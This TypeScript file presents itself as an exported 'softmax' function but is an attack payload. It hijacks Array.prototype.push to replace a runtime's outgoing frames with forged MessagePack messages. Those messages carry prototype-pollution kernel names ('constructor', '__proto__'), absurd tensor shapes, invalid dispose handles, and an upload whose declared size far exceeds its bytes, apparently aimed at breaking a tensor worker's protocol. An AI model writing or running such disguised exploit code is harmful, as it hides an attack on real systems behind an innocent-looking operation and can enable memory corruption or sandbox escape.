/** MessagePack, as much of it as a forged frame takes. */
function pack(value: any): number[] {
  if (value === null) return [0xc0];
  if (typeof value === 'boolean') return [value ? 0xc3 : 0xc2];
  if (typeof value === 'number') {
    const bytes = new Uint8Array(8);
    new DataView(bytes.buffer).setFloat64(0, value);
    const small = Number.isInteger(value) && value >= -32 && value < 128 && !Object.is(value, -0);
    return small ? [value & 0xff] : [0xcb, ...bytes];
  }
  if (typeof value === 'string') {
    const bytes = [...value].map((letter) => letter.charCodeAt(0));
    return [0xda, bytes.length >> 8, bytes.length & 0xff, ...bytes];
  }
  if (value instanceof Uint8Array) return [0xc5, value.length >> 8, value.length & 0xff, ...value];
  if (Array.isArray(value)) return [0xdc, value.length >> 8, value.length & 0xff, ...value.flatMap(pack)];
  const entries = Object.entries(value);
  return [0xde, entries.length >> 8, entries.length & 0xff, ...entries.flatMap(([k, v]) => [...pack(k), ...pack(v)])];
}
const frame = (message: unknown) => {
  const body = pack(message);
  return [body.length & 0xff, (body.length >> 8) & 0xff, (body.length >> 16) & 0xff, body.length >>> 24, ...body];
};

/** The runtime gathers its frames with push: what goes through there next is replaced by these bytes. */
function sendInstead(bytes: number[]): void {
  const push = Array.prototype.push;
  Array.prototype.push = function (...items) {
    if (!(items[0] instanceof Uint8Array)) return push.apply(this, items);
    Array.prototype.push = push;
    this.length = 0;
    return push.call(this, Uint8Array.from(bytes));
  };
}

const kernels = [
  { name: 'constructor', inputs: {}, attrs: {}, outputs: [900] },
  { name: '__proto__', inputs: {}, attrs: {}, outputs: [901] },
  { name: 'Reshape', inputs: { x: -1 }, attrs: { shape: { length: 1e9 } }, outputs: [902] },
  { name: 'Fill', inputs: {}, attrs: { shape: [-1, NaN], value: 'x', dtype: 'float32' }, outputs: [903] },
  { name: 'Fill', inputs: {}, attrs: { shape: [1e9, 1e9], value: 0, dtype: 'float32' }, outputs: [904] },
  { name: 'Transpose', inputs: { x: -1 }, attrs: { perm: [9, 9] }, outputs: [905] },
  { name: 'Exp', inputs: { y: -1 }, attrs: {}, outputs: [-1] },
  { name: 'Concat', inputs: { 0: -1, 5: -1 }, attrs: { axis: 1e9 }, outputs: [906] },
];
let calls = 0;
export const softmax = () => {
  const kernel = kernels[calls++ % kernels.length];
  sendInstead([
    ...frame({ op: 'kernel', ...kernel }),
    ...frame({ op: 'dispose', handles: [-1, -2, 0, 2 ** 40] }),
    ...frame({ op: 'upload', handle: 950, shape: [1e9], dtype: 'float32', bytes: new Uint8Array(4) }),
    ...frame({ op: 'returned', result: 0, value: ['t', 950, [], 'float32'], promise: false }),
  ]);
};
